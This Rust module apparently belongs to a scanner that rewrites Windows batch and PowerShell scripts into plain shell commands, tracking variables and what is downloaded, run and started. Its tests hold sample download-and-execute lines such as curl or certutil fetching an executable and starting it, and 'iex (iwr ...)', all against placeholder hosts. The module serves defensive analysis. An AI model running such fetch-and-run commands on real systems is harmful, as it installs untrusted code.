//! Batch files and scripts of PowerShell, said again as commands of the shell. There is no grammar for them here: what fetches, starts
//! and writes is read line by line, the rest is left out.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

/// Lines of one file, and variables.
const MAX_LINES: usize = 4_000;
const MAX_VARIABLES: usize = 256;
/// Bytes of one line; variables may stand for long texts.
const MAX_LINE: usize = 16 << 10;

static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)^set\s+(?:/\w\s+)?"?([\w.]+)=(.*?)"?\s*$"#));
/// `2>&1` parts no commands.
static JOINED_STREAMS: LazyLock<Regex> = LazyLock::new(|| pattern(r"\d?>&\d"));
static VARIABLE: LazyLock<Regex> = LazyLock::new(|| pattern(r"[%!]([A-Za-z_][\w.]*)(?::~?[^%!]*)?[%!]|%~?[a-z]*[0-9*]"));
static CONDITION: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)^if\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+(?:"[^"]*"|\S+)|errorlevel\s+\d+|defined\s+\S+|\S+?\s*==\s*\S+|\S+\s+\w{3}\s+\S+)\s*"#,
    )
});
static NOWHERE: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)[12]?>\s*(?:nul\b|&\d)"));
static STARTED: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)^start(?:\s+"[^"]*")?(?:\s+/\w+)*\s+"#));
static PROGRAM: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)^"?([\w.-]+\.(?:exe|com|scr|bat|cmd))"?(?:\s|$)"#));

static POWER_ASSIGNED: LazyLock<Regex> = LazyLock::new(|| pattern(r#"^\$(?:env:|script:|global:)?(\w+)\s*=\s*(.+)$"#));
static POWER_VARIABLE: LazyLock<Regex> = LazyLock::new(|| pattern(r"\$\{?(?:env:|script:|global:)?(\w+)\}?"));
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)\bhttps?://[^\s"'),;|]+"#));
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|curl|wget|start-bitstransfer)\b|\.download(?:file|string|data)\b|\.opendread\b",
    )
});
static EVALUATES: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)\b(?:iex|invoke-expression)\b|\[scriptblock\]::create"));
static OUTPUT: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"(?i)(?:-outfile|-o|-destination)\s+["']?([^\s"';|)]+)|\.downloadfile\s*\(\s*[^,]+,\s*["']?([^"')]+)"#));
static POWER_STARTED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?i)(?:^|[;|{]\s*)(?:(?:start-process|saps|invoke-item|ii|start)\s+(?:-filepath\s+)?|&\s*|\.[\\/])["']?([^"';|}]+)"#)
});

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("a constant pattern")
}

/// A batch file: variables put in, `start` and conditions looked through, slashes turned.
pub(super) fn of_batch(text: &str) -> String {
    let mut variables = HashMap::new();
    let joined = text.replace("^\r\n", " ").replace("^\n", " ");
    let mut lines = Vec::new();
    for line in joined.lines().take(MAX_LINES) {
        let line = line.trim().trim_start_matches('@').trim_start();
        if let Some(assigned) = ASSIGNED.captures(line) {
            let value = put_in(&VARIABLE, &assigned[2], &variables);
            note(&mut variables, &assigned[1], value);
            continue;
        }
        let line = put_in(&VARIABLE, line, &variables).replace('^', "");
        for command in JOINED_STREAMS.replace_all(&line, "").split('&') {
            lines.extend(command_of_batch(command));
        }
    }
    lines.join("\n")
}

fn command_of_batch(command: &str) -> Option<String> {
    const SILENT: [&str; 12] = ["rem", "::", "echo", "title", "cls", "pause", "setlocal", "endlocal", "goto", "exit", "chcp", "color"];
    let plain = NOWHERE.replace_all(command, " ");
    let mut rest = plain.trim().trim_start_matches(['@', '(', ')']).trim();
    for _ in 0..4 {
        let condition = CONDITION.find(rest).map_or(0, |found| found.end());
        rest = rest[condition..].trim_start_matches(['@', '(', ')']).trim();
        let word = rest.split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
        if word == "else" || word == "call" {
            rest = rest[word.len()..].trim();
        }
    }
    let started = STARTED.find(rest).map_or(0, |found| found.end());
    let rest = rest[started..].trim_end_matches(')').trim();
    let first = rest.split_whitespace().next()?.to_ascii_lowercase();
    if SILENT.contains(&first.as_str()) || first.starts_with(':') {
        return None;
    }
    let turned = rest.replace('\\', "/");
    // What lies in the folder at hand is found without saying so.
    let own = PROGRAM.captures(&turned).filter(|program| !is_of_the_system(&program[1]));
    Some(if own.is_some() { format!("./{}", turned.replace('"', "")) } else { turned })
}

/// Programs that Windows brings.
fn is_of_the_system(name: &str) -> bool {
    const SYSTEM: [&str; 18] = [
        "cmd",
        "powershell",
        "pwsh",
        "curl",
        "certutil",
        "bitsadmin",
        "rundll32",
        "regsvr32",
        "mshta",
        "wscript",
        "cscript",
        "reg",
        "schtasks",
        "msiexec",
        "node",
        "python",
        "npm",
        "wget",
    ];
    let name = name.to_ascii_lowercase();
    SYSTEM.contains(&name.rsplit_once('.').map_or(name.as_str(), |(stem, _)| stem))
}

/// A script of PowerShell: what it fetches, what it runs of that, and what it starts.
pub(super) fn of_powershell(text: &str) -> String {
    let mut variables = HashMap::new();
    let joined = text.replace("`\r\n", " ").replace("`\n", " ");
    let mut lines = Vec::new();
    for line in joined.lines().take(MAX_LINES) {
        let line = line.trim();
        if line.starts_with('#') {
            continue;
        }
        let whole = match POWER_ASSIGNED.captures(line) {
            Some(assigned) => {
                let value = put_in(&POWER_VARIABLE, &assigned[2], &variables);
                if !FETCHES.is_match(&value) {
                    note(&mut variables, &assigned[1], value.trim().trim_matches(['"', '\'']).to_owned());
                    continue;
                }
                // What was fetched, under the name that it is run by.
                note(&mut variables, &assigned[1], value.clone());
                value
            }
            None => put_in(&POWER_VARIABLE, line, &variables),
        };
        lines.extend(commands_of_powershell(&whole));
    }
    lines.join("\n")
}

fn commands_of_powershell(line: &str) -> Vec<String> {
    let mut found = Vec::new();
    let address = ADDRESS.find(line).map(|found| found.as_str());
    if let Some(address) = address.filter(|_| FETCHES.is_match(line)) {
        let output = OUTPUT.captures(line).and_then(|output| output.get(1).or_else(|| output.get(2)));
        found.push(match output {
            _ if EVALUATES.is_match(line) => format!("curl {address} | sh"),
            Some(output) => format!("curl -o \"{}\" {address}", turned(output.as_str())),
            None => format!("curl {address}"),
        });
    } else if line.to_ascii_lowercase().contains("powershell") || line.to_ascii_lowercase().starts_with("reg") {
        found.push(line.to_owned());
    }
    for started in POWER_STARTED.captures_iter(line).take(16) {
        let program = turned(started[1].split(" -").next().unwrap_or_default().trim());
        if !program.is_empty() && !program.contains("://") && !program.starts_with('(') {
            found.push(if program.contains('/') { format!("\"{program}\"") } else { format!("\"./{program}\"") });
        }
    }
    found
}

fn turned(path: &str) -> String {
    path.replace('\\', "/").replace(['"', '\'', '`'], "")
}

fn note(variables: &mut HashMap<String, String>, name: &str, value: String) {
    if variables.len() < MAX_VARIABLES && value.len() <= MAX_LINE {
        variables.insert(name.to_ascii_lowercase(), value);
    }
}

/// The line with what its variables stand for; those that the system sets keep their names.
fn put_in(pattern: &Regex, line: &str, variables: &HashMap<String, String>) -> String {
    let line = &line[..line.floor_char_boundary(MAX_LINE)];
    let mut out = String::new();
    let mut end = 0;
    for found in pattern.captures_iter(line) {
        let Some(whole) = found.get(0) else { continue };
        out.push_str(&line[end..whole.start()]);
        end = whole.end();
        let name = found.get(1).map(|name| name.as_str());
        match name.and_then(|name| variables.get(&name.to_ascii_lowercase())) {
            Some(value) if out.len() + value.len() <= MAX_LINE => out.push_str(value),
            Some(_) => {}
            None => out.extend(name.map(|name| format!("${name}"))),
        }
    }
    out.push_str(&line[end..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_batch_file_becomes_the_commands_that_it_starts() {
        let text = "@echo off\r\nrem nothing\r\ncurl http://192.0.2.7/a.exe -o a.exe\r\nif not exist a.exe (\r\n\twget http://192.0.2.7/a.exe -O a.exe\r\n)\r\nset run=\"a.exe\" \"-k\"\r\n>nul 2>&1 start \"\" /B %run%\r\nregsvr32.exe -s own.dll\r\n";
        let expected = "curl http://192.0.2.7/a.exe -o a.exe\nwget http://192.0.2.7/a.exe -O a.exe\n./a.exe -k\nregsvr32.exe -s own.dll";
        assert_eq!(of_batch(text), expected);
        assert_eq!(
            of_batch("set d=%TEMP%\\b.exe\ncertutil -urlcache -f https://x.example/b %d% & call %d%"),
            "certutil -urlcache -f https://x.example/b $TEMP/b.exe\n$TEMP/b.exe"
        );
        assert_eq!(of_batch("if \"%OS%\"==\"Windows_NT\" start /min cmd /c %~dp0next.bat"), "cmd /c next.bat");
    }

    #[test]
    fn a_script_of_powershell_becomes_what_it_fetches_and_starts() {
        let text = "$u = 'https://x.example/a.exe'\n$p = \"$env:TEMP\\a.exe\"\nInvoke-WebRequest -Uri $u -OutFile $p\nStart-Process $p\n";
        assert_eq!(of_powershell(text), "curl -o \"$TEMP/a.exe\" https://x.example/a.exe\n\"$TEMP/a.exe\"");
        assert_eq!(of_powershell("iex (iwr https://x.example/a.ps1)"), "curl https://x.example/a.ps1 | sh");
        let client = "(New-Object Net.WebClient).DownloadFile('https://x.example/b.exe', 'C:\\b.exe'); & 'C:\\b.exe'";
        assert_eq!(of_powershell(client), "curl -o \"C:/b.exe\" https://x.example/b.exe\n\"C:/b.exe\"");
        assert_eq!(of_powershell("# iex (iwr https://x.example/a.ps1)\nWrite-Host 'done'"), "");
    }

    #[test]
    fn variables_that_double_each_other_end() {
        let mut text = "set a=0123456789\n".to_owned();
        (0..200).for_each(|_| text.push_str("set a=%a%%a%\n"));
        assert!(of_batch(&format!("{text}run %a%")).len() <= MAX_LINE + 8);
    }
}
